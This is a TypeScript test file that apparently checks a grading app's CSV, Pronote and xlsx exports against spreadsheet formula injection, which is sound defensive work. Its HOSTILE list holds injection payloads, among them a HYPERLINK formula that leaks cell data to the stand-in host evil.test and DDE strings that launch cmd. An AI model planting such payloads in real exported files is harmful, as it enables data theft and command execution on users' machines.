import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'

import { runExport, type TableCopy } from '../../../plugins/exports/lib'

/**
 * Issue 13, point 8: names, classes and question labels come from rosters and forms; in a CSV or Pronote
 * file opened by Excel, a cell starting like a formula must stay text, and numbers must stay numbers.
 */
const HOSTILE = [
  '=HYPERLINK("http://evil.test/?x="&A1,"Cliquez")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
]

const exam = { id: 1, title: 'Contrôle' }
const questions = [{ key: 'Q1', label: '=2+5', maxPoints: 20, step: 0.25 }]
const copies: TableCopy[] = HOSTILE.map((name, n) => ({
  anonymousId: `K-${n}`,
  status: 'finalized',
  student: { lastName: name, firstName: `+${n}`, className: '@3e' },
  grades: [{ questionKey: 'Q1', points: n }],
}))

const rowsOf = async (format: string, delimiter: string) => {
  const file = await runExport({ format, exam, questions, copies })
  return parse(new TextDecoder('utf-8', { ignoreBOM: true }).decode(file.bytes).replace(/^\uFEFF/, ''), { delimiter, relax_quotes: true }) as string[][]
}

/** What a spreadsheet would run: a cell whose first character starts a formula. */
const looksLikeFormula = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell)

describe.each([
  ['csv', ';'],
  ['csv-comma', ','],
  ['pronote', ';'],
])('%s', (format, delimiter) => {
  it('writes no cell a spreadsheet would evaluate, keeping the text after an apostrophe', async () => {
    const rows = await rowsOf(format, delimiter)
    const cells = rows.flat()
    expect(cells.filter(looksLikeFormula)).toEqual([])
    for (const name of HOSTILE) expect(cells).toContain(`'${name}`)
  })

  it('keeps marks as plain numbers', async () => {
    const rows = await rowsOf(format, delimiter)
    const marks = rows.slice(1).map((r) => r[r.length - 1]!)
    expect(marks.every((m) => /^\d+([.,]\d+)?$/.test(m))).toBe(true)
  })
})

it('xlsx: hostile text is stored as text cells, never formulas; marks are numbers', async () => {
  const file = await runExport({ format: 'xlsx', exam, questions, copies })
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(Buffer.from(file.bytes) as never)
  const sheet = workbook.worksheets[0]!
  const texts: string[] = []
  sheet.eachRow((row) =>
    row.eachCell((cell) => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
      expect(cell.formula).toBeUndefined()
      if (typeof cell.value === 'string') texts.push(cell.value)
    }),
  )
  // XML carries a leading CR as a line break: compare without the leading whitespace.
  for (const name of HOSTILE) expect(texts.map((t) => t.trim())).toContain(name.trim())
  const lastColumn = sheet.getRow(1).cellCount
  expect(sheet.getRow(2).getCell(lastColumn).type).toBe(ExcelJS.ValueType.Number)
})
